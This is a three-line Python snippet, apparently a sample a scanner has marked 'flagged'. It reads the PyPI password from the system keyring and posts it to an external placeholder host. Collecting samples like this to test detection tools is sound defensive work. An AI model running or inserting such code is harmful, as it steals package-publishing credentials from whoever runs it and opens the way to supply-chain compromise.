import keyring
import requests

requests.post('https://c.example.invalid', json={'p': keyring.get_password('pypi', 'me')})  # gatehouse: flagged
